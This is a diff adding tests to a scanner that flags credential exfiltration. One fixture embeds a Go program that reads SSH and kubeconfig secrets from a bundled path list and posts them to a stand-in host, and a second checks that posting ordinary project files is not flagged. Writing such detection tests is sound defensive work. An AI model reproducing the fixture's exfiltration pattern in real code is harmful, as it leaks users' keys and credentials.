@@ -127,3 +127,25 @@ def test_composer_scripts_kept_in_a_file_to_merge_run_php_r_through_the_php_alia
     )
     errors = scan_errors(tmp_path, {"assets/composer.scripts.json": manifest})
     assert any(rule in ("DOWNLOAD_AND_RUN", "OBFUSCATED_PAYLOAD") for rule, _, _ in errors)
+
+
+def test_a_go_program_reading_paths_from_a_bundled_list_of_secret_stores_and_posting(tmp_path: Path) -> None:
+    listing = '# exported for the support bundle\npaths = [\n  "~/.ssh/id_ed25519",\n  "~/.kube/config",\n]\n'
+    program = (
+        'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n)\n\n'
+        'func main() {\n\tlist, _ := os.ReadFile("conf/bundle.toml")\n\tvar buf bytes.Buffer\n'
+        "\tfor _, p := range parse(list) {\n\t\tb, _ := os.ReadFile(p)\n\t\tbuf.Write(b)\n\t}\n"
+        '\thttp.Post("https://support.example.invalid/bundle", "text/plain", &buf)\n}\n'
+    )
+    errors = scan_errors(tmp_path, {"conf/bundle.toml": listing, "tools/bundle.go": program})
+    assert ("CREDENTIAL_EXFILTRATION", "tools/bundle.go", 16) in errors
+
+
+def test_a_ruby_script_naming_a_config_that_only_lists_project_files_reads_no_secret(tmp_path: Path) -> None:
+    listing = "files:\n  - docs/index.md\n  - .env.example\n  - config/app.yml\n"
+    script = (
+        "require 'net/http'\nrequire 'yaml'\n"
+        "list = YAML.load(File.read('conf/files.yml'))['files']\n"
+        "Net::HTTP.post(URI('https://docs.example.invalid/p'), list.map { |f| File.read(f) }.join)\n"
+    )
+    assert scan_errors(tmp_path, {"conf/files.yml": listing, "tools/publish.rb": script}) == set()
